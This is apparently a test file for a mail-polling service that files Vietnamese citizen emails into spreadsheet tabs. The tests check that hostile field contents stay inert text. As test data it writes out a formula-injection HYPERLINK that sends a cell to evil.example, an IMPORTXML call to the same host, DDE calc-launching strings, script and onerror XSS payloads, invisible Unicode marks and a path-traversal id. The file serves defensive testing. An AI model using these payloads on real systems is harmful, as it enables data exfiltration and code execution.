/**
 * Everything in a mail is the sender's: hostile text in every field is stored as text, whole,
 * never as a formula, never able to plant a secret's placeholder, and never breaks the poll.
 */
import { connectMailboxDirectly, mail, poll } from '../support/mailbox';
import { tabRecords, tabValues, wardFactory } from '../support/ward';

const fresh = wardFactory();
const SLOT = '\u2063mã tra cứu\u2063';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';

describe('hostile text in every field of a mail', () => {
  it('formulas, markup, invisible marks and planted placeholders stay inert text; the poll files the mail', () => {
    const w = fresh();
    const secret = connectMailboxDirectly(w);
    const m = mail({
      rfcMessageId: FORMULA,
      threadId: '+cmd|\' /C calc\'!A0',
      inReplyTo: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      references: [FORMULA, '-2+3'],
      fromName: `=IMPORTXML("http://evil.example","//a")${SLOT}`,
      fromAddress: 'lan.nguyen@gmail.com',
      subject: `${FORMULA} <script>alert(1)</script> ${SLOT}`,
      date: 'not a date',
      body: `${FORMULA}\n<img src=x onerror=alert(1)>\nXin sửa đèn.${SLOT}\u202e\u200b`,
    });
    const a = poll(w, secret, { messages: [m] });
    expect(a).toMatchObject({ ok: true, filed: [{ verdict: 'filed', code: 'GY-2026-00001' }] });
    // No cell of any tab holds a formula.
    const ss = w.SpreadsheetApp.getActive();
    for (const sheet of ss.getSheets()) {
      const formulas = sheet.getDataRange().getFormulas().flat().filter((f) => f !== '');
      expect([sheet.getName(), formulas]).toEqual([sheet.getName(), []]);
    }
    const [c] = tabRecords(w, 'Ý kiến');
    expect(c['Nội dung']).toContain(FORMULA);
    expect(c['Nội dung']).toContain('<img src=x onerror=alert(1)>');
    expect(c['Nội dung']).not.toContain('\u2063');
    const [row] = tabValues(w, 'Thư điện tử').slice(1);
    expect(row.slice(0, 4)).toEqual([m.messageId, FORMULA, '+cmd|\' /C calc\'!A0', 'GY-2026-00001']);
    expect(String(row[5])).not.toContain('\u2063');
    // The acknowledgement names the sender as the cleaned name, and no planted slot became a key twice.
    const [ack] = a.ok ? a.replies : [];
    expect(ack.subject.startsWith('Re: ')).toBe(true);
    expect(ack.subject).not.toContain('\u2063');
    expect(ack.body.match(/[2-9A-HJ-NP-Z]{4}-[2-9A-HJ-NP-Z]{4}/g)).toHaveLength(1);
  });

  it('oversized fields are cut to what a real mail holds, a long body is kept whole in "Nội dung dài"', () => {
    const w = fresh();
    const secret = connectMailboxDirectly(w);
    const body = 'Đường ngập. '.repeat(9_000);
    const a = poll(w, secret, { messages: [mail({ body, subject: 'x'.repeat(5_000), fromName: 'N'.repeat(5_000) })] });
    expect(a).toMatchObject({ ok: true, filed: [{ verdict: 'filed' }] });
    expect(tabRecords(w, 'Nội dung dài')).toHaveLength(1);
  });

  it('a poll whose message id could break a key is refused whole, and nothing is written', () => {
    const w = fresh();
    const secret = connectMailboxDirectly(w);
    expect(poll(w, secret, { messages: [mail({ messageId: '../../x' })] })).toEqual({ ok: false, error: 'bad-request' });
    expect(poll(w, secret, { messages: [mail({ messageId: 'a'.repeat(65) })] })).toEqual({ ok: false, error: 'bad-request' });
    expect(tabRecords(w, 'Ý kiến')).toHaveLength(0);
  });
});
